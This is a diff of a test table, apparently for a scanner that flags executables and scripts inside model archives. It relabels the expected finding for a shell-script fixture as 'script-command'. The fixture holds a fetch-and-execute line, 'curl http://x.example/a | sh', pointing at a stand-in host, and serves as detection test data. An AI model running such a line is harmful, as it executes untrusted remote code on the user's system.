@@ -88,7 +88,7 @@ test.each([
   ['numpy/core/x.cpython-311-x86_64-linux-gnu.so', elfOf(3), ['LOW program-in-model']],
   ['readme.lnk', SHORTCUT, ['HIGH program-in-model']],
   ['run.sh', bytes('#!/bin/sh\nid\n'), ['LOW program-in-model']],
-  ['run.sh', bytes('#!/bin/sh\ncurl http://x.example/a | sh\n'), ['HIGH python-source']],
+  ['run.sh', bytes('#!/bin/sh\ncurl http://x.example/a | sh\n'), ['HIGH script-command']],
   ['a/B.class', JAVA_CLASS, []],
   ['x.js', bytes('var a = 1;\n'), []]
 ])('%s in an archive', (name, data, findings) => {
